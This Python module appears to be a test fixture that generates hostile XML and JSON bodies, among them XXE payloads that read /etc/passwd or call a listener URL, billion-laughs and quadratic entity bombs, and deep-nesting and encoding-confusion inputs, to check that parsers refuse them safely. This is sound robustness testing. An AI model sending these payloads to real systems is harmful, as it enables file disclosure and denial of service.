"""Bodies that attack whoever reads them, by name: one corpus for the client's replies and the sandbox's requests.

Each is made when it is asked for, around what a genuine one begins and ends with (`Frame`), so that a reader gets as
far into it as it would into a genuine one. They are about a megabyte, or ten where size is the attack.
"""

from collections.abc import Callable
from typing import NamedTuple


class Frame(NamedTuple):
    """A genuine document around one place where anything may stand."""

    before: str
    after: str

    def around(self, content: str | bytes = "", *, prolog: str = "", encoding: str = "utf-8") -> bytes:
        """The document with this content, and with `prolog` before it."""
        inner = content if isinstance(content, bytes) else content.encode(encoding)
        begin = f"{prolog}{self.before}".encode(encoding)
        rest = self.after.encode(encoding)
        # An encoding with a byte order mark writes one each time.
        mark = "".encode(encoding)
        return begin + inner.removeprefix(mark) + rest.removeprefix(mark)


Make = Callable[[Frame], bytes]
MEGABYTE = 1_000_000
TEN = 10_100_000  # libxml2 takes ten million characters for one text


def _declared(encoding: str) -> str:
    return f'<?xml version="1.0" encoding="{encoding}"?>'


def _typed(subset: str, content: str = "&e;", encoding: str = "utf-8", pad: str = "") -> Make:
    """With an internal document type."""
    return lambda frame: frame.around(content, prolog=f"{pad}<!DOCTYPE x [{subset}]>", encoding=encoding)


def _inside(content: Callable[[], str | bytes]) -> Make:
    return lambda frame: frame.around(content())


_FAR = f"<!--{' ' * 2000}-->"  # what follows is not seen at a glance
_LAUGHS = '<!ENTITY e0 "ha">' + "".join(f'<!ENTITY e{n} "' + f"&e{n - 1};" * 10 + '">' for n in range(1, 20))
_QUADRATIC = '<!ENTITY e "' + "a" * 50_000 + '">'


def xxe(url: str) -> dict[str, Make]:
    """What fetches a file, or this URL of a listener, if a reader lets itself be told to."""
    return {
        "a file by an entity": _typed('<!ENTITY e SYSTEM "file:///etc/passwd">'),
        "a file by an entity in UTF-16": _typed('<!ENTITY e SYSTEM "file:///etc/passwd">', encoding="utf-16"),
        "an address by an entity": _typed(f'<!ENTITY e SYSTEM "{url}e">'),
        "an address by an entity after blanks": _typed(f'<!ENTITY e SYSTEM "{url}e">', pad=_FAR),
        "an address by a parameter entity": _typed(f'<!ENTITY % p SYSTEM "{url}p.dtd"> %p;', content=""),
        "an external document type": lambda frame: frame.around(prolog=f'<!DOCTYPE x SYSTEM "{url}x.dtd">'),
        "an external document type in UTF-16": lambda frame: frame.around(
            prolog=f'<!DOCTYPE x SYSTEM "{url}x.dtd">', encoding="utf-16"
        ),
        "a public document type": lambda frame: frame.around(prolog=f'<!DOCTYPE x PUBLIC "-//x" "{url}p">'),
    }


XML: dict[str, Make] = {
    "nothing": lambda _: b"",
    "cut short": lambda frame: frame.around()[:-1],
    "an entity bomb": _typed(_LAUGHS, "&e19;"),
    "an entity bomb in UTF-16": _typed(_LAUGHS, "&e19;", encoding="utf-16"),
    "an entity bomb in an attribute": _typed(_LAUGHS, '<a b="&e19;"/>', encoding="utf-16"),
    "an entity bomb as a default": _typed(f'{_LAUGHS}<!ATTLIST a b CDATA "&e19;">', "<a/>" * 1000, pad=_FAR),
    "quadratic blow-up": _typed(_QUADRATIC, "&e;" * 50_000),
    "quadratic blow-up in UTF-16": _typed(_QUADRATIC, "&e;" * 50_000, encoding="utf-16"),
    "an entity of itself": _typed('<!ENTITY e "&e;">', encoding="utf-16"),
    "an unknown entity": _inside(lambda: "<a>&inconnu;</a>"),
    "depth": _inside(lambda: "<a>" * 100_000 + "</a>" * 100_000),
    "depth without an end": _inside(lambda: "<a>" * 300_000),
    "ten megabytes in one text": _inside(lambda: f"<a>{'x' * TEN}</a>"),
    "ten megabytes of emoji": _inside(lambda: f"<a>{'😀' * (TEN // 4)}</a>"),
    "ten megabytes in a CDATA section": _inside(lambda: f"<a><![CDATA[{'x' * TEN}]]></a>"),
    "ten megabytes in a comment": _inside(lambda: f"<!--{'x' * TEN}-->"),
    "ten megabytes in an instruction": _inside(lambda: f"<?x {'x' * TEN}?>"),
    "ten megabytes in a name": _inside(lambda: f"<{'a' * TEN}/>"),
    "ten megabytes in an attribute": _inside(lambda: '<a b="' + "x" * TEN + '"/>'),
    "many elements": _inside(lambda: "<a/>" * 300_000),
    "ten megabytes of elements": _inside(lambda: "<a/>" * (TEN // 4)),
    "elements with texts": _inside(lambda: "<a>b</a>c" * 300_000),
    "elements of many names": _inside(lambda: "".join(f"<a{n}/>" for n in range(300_000))),
    "many CDATA sections": _inside(lambda: "<a>" + "<![CDATA[x]]>" * 300_000 + "</a>"),
    "many comments": _inside(lambda: "x<!---->" * 300_000),
    "many instructions": _inside(lambda: "x<?a?>" * 300_000),
    "many attributes": _inside(lambda: "<a " + " ".join(f"a{n}=''" for n in range(300_000)) + "/>"),
    "attributes of many elements": _inside(lambda: "<a b='' c=''/>" * 200_000),
    "many namespaces": _inside(lambda: "<a " + " ".join(f"xmlns:a{n}='u{n}'" for n in range(300_000)) + "/>"),
    "namespaces in namespaces": _inside(lambda: '<a xmlns:p="u"/>' * 300_000),
    "a long namespace of many elements": _inside(lambda: f"<a xmlns='{'u' * MEGABYTE}'>" + "<b/>" * 100_000 + "</a>"),
    "a namespace with apostrophes": _inside(lambda: '<a xmlns="' + "'" * MEGABYTE + '">' + "<b/>" * 100_000 + "</a>"),
    "one attribute twice": _inside(lambda: "<a b='1' b='2'/>"),
    "an unbound prefix": _inside(lambda: "<p:a q:b=''></p:b>"),
    "a null": _inside(lambda: "<a>\0</a>"),
    "an escaped null": _inside(lambda: "<a>&#0;</a>"),
    "half a surrogate pair": _inside(lambda: "<a>&#xd800;</a>"),
    "a character beyond Unicode": _inside(lambda: "<a>&#x110000;</a>"),
    "all nulls": lambda _: b"\0" * MEGABYTE,
    "all opening marks": lambda _: b"<" * MEGABYTE,
    "UTF-7": lambda _: _declared("UTF-7").encode() + b"+ADw-a/+AD4-" * 300_000,
    "UTF-7 that hides elements": lambda frame: frame.around(b"+ADwAYQAvAD4-" * 300_000, prolog=_declared("UTF-7")),
    "escapes of Java": lambda frame: frame.around(rb"\u003ca/\u003e" * 300_000, prolog=_declared("java")),
    "UTF-16 with many elements": lambda frame: frame.around("<a/>" * 300_000, encoding="utf-16"),
    "UTF-16 that calls itself UTF-8": lambda frame: frame.around("<a>", prolog=_declared("UTF-8"), encoding="utf-16"),
    "UTF-8 that calls itself UTF-16": lambda frame: frame.around(prolog=_declared("UTF-16")),
    "UTF-32 without a mark": lambda frame: frame.around("<a/>" * 300_000, encoding="utf-32-le"),
    "EBCDIC": lambda frame: frame.around("<a/>" * 300_000, prolog=_declared("IBM037"), encoding="cp037"),
    "EBCDIC that does not say so": lambda frame: frame.around("<a/>" * 300_000, encoding="cp037"),
    "an unknown encoding": lambda frame: frame.around(prolog=_declared("klingon")),
    "an encoding without an end": lambda _: b'<?xml version="1.0" encoding="' + b"x" * MEGABYTE,
    "no encoding at all": _inside(lambda: b"<a>\x81\x8d</a>"),
}  # fmt: skip

ODD_XML: dict[str, Make] = {
    "half a surrogate pair in UTF-8": _inside(lambda: b"<a>\xed\xa0\x80</a>"),
    "an overlong letter": _inside(lambda: b"<a>\xc0\xbc</a>"),
    "Latin-1 that does not say so": _inside(lambda: b"<a>\xe9</a>"),
}
"""What one reader may refuse and another pass over, but neither may fall over."""

HARMLESS_XML: dict[str, Make] = {
    "an instruction that includes": lambda frame: frame.around(
        '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    ),
    "a style sheet": lambda frame: frame.around(prolog='<?xml-stylesheet href="file:///etc/passwd"?>'),
    "a schema": lambda frame: frame.around(
        '<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:noNamespaceSchemaLocation="file:///etc/passwd"/>'
    ),
    "a CDATA section with marks": lambda frame: frame.around("<a><![CDATA[<a><b>]]]]><![CDATA[>]]></a>"),
}
"""What asks for a file and is served without it: to these, whatever comes back may hold nothing of that file."""

JSON: dict[str, Make] = {
    "nothing": lambda _: b"",
    "cut short": lambda frame: frame.around("0")[:-1],
    "depth of lists": lambda _: b"[" * MEGABYTE,
    "depth in its place": _inside(lambda: "[" * MEGABYTE),
    "depth that is closed": _inside(lambda: "[" * 100_000 + "]" * 100_000),
    "depth of objects": _inside(lambda: '{"a":' * 100_000 + "0" + "}" * 100_000),
    "ten megabytes in one text": _inside(lambda: '"' + "x" * TEN + '"'),
    "ten megabytes of emoji": _inside(lambda: '"' + "😀" * (TEN // 4) + '"'),
    "ten megabytes in a name": _inside(lambda: '{"' + "x" * TEN + '":0}'),
    "a huge number": _inside(lambda: "9" * TEN),
    "a huge fraction": _inside(lambda: "0." + "1" * TEN),
    "many lists": _inside(lambda: "[" + "[]," * 300_000 + "[]]"),
    "ten megabytes of lists": _inside(lambda: "[" + "[]," * (TEN // 3) + "[]]"),
    "many objects": _inside(lambda: "[" + '{"a":0},' * 150_000 + "{}]"),
    "many numbers": _inside(lambda: "[" + ",".join(map(str, range(10**9, 10**9 + 300_000))) + "]"),
    "many small texts": _inside(lambda: "[" + ",".join(f'"a{n}"' for n in range(300_000)) + "]"),
    "many names": _inside(lambda: "{" + ",".join(f'"a{n}":0' for n in range(300_000)) + "}"),
    "one name for ever": _inside(lambda: "{" + '"a":0,' * 300_000 + '"a":0}'),
    "a text without an end": _inside(lambda: '"' + "\\\\" * (TEN // 2)),
    "quotes": _inside(lambda: '"' * MEGABYTE),
    "braces": lambda _: b'{"' * MEGABYTE,
    "backslashes": lambda _: b'{"' + b"\\" * TEN,
    "not a number": _inside(lambda: "NaN"),
    "infinity": _inside(lambda: "-Infinity"),
    "a null": _inside(lambda: '"\0"'),
    "all nulls": lambda _: b"\0" * MEGABYTE,
    "UTF-16": lambda frame: frame.around("0", encoding="utf-16"),
    "UTF-16 without a mark": lambda frame: frame.around("0", encoding="utf-16-le"),
    "UTF-32": lambda frame: frame.around("0", encoding="utf-32-be"),
    "EBCDIC": lambda frame: frame.around("0", encoding="cp037"),
    "no encoding at all": _inside(lambda: b'"\x81\x8d"'),
    "an overlong letter": _inside(lambda: b"\xc0\xb1"),
}  # fmt: skip

ODD_JSON: dict[str, Make] = {
    "a name twice": _inside(lambda: '{"a":0,"a":1}'),
    "an exponent": _inside(lambda: "1e999999"),
    "a huge exponent": _inside(lambda: "1e" + "9" * MEGABYTE),
    "an escaped null": _inside(lambda: r'"\u0000"'),
    "half a surrogate pair": _inside(lambda: r'"\ud800"'),
    "half a surrogate pair in UTF-8": _inside(lambda: b'"\xed\xa0\x80"'),
    "depth that Python just bears": _inside(lambda: "[" * 450 + "]" * 450),
}
"""What one reader may refuse and another pass over, but neither may fall over."""


def largest_xml(nodes: int, size: int) -> dict[str, Make]:
    """What costs a reader most that takes so many elements and attributes, and so many bytes."""
    return {
        "elements": _inside(lambda: "<a/>" * nodes),
        "elements and texts": _inside(lambda: ("<a>" + "b" * 14 + "</a>" + "c" * 13) * min(nodes, size // 34)),
        "rows of names": _inside(lambda: "".join(f"<a{n}>{n}</a{n}>" for n in range(nodes))),
        "attributes": _inside(lambda: "<a " + " ".join(f"a{n}='x'" for n in range(nodes - 1)) + "/>"),
        "namespaces": _inside(lambda: "<a " + " ".join(f"xmlns:a{n}='{n}'" for n in range(nodes - 1)) + "/>"),
        "emoji": _inside(lambda: "".join(f"<a{n}>{'x' * (size // 4 - 20)} 😀</a{n}>" for n in range(4))),
    }


def largest_json(values: int, size: int) -> dict[str, Make]:
    """What costs a reader most that takes so many opening brackets and commas, and so many bytes."""
    return {
        "objects": _inside(lambda: "[" + '{"a":0},' * (values // 2 - 1) + "{}]"),
        "lists": _inside(lambda: "[" + "[]," * (values // 2 - 1) + "[]]"),
        "rows": _inside(lambda: "[" + '{"smsfid":"a"},' * (values // 2 - 1) + "{}]"),
        "numbers": _inside(lambda: "[" + ",".join(map(str, range(10**9, 10**9 + values - 1))) + "]"),
        "texts": _inside(lambda: "[" + ",".join(f'"{n:06}"' for n in range(values - 1)) + "]"),
        "names": _inside(lambda: "{" + ",".join(f'"{n:06}":0' for n in range(values - 1)) + "}"),
        "names and an emoji": _inside(
            lambda: (
                "{"
                + ",".join(f'"{n:06}😀":0' for n in range(values - 2))
                + ',"b":"'
                + "x" * (size - values * 15)
                + '"}'
            )
        ),
        "emoji": _inside(lambda: '"' + "x" * (size - 10) + ' 😀"'),
    }
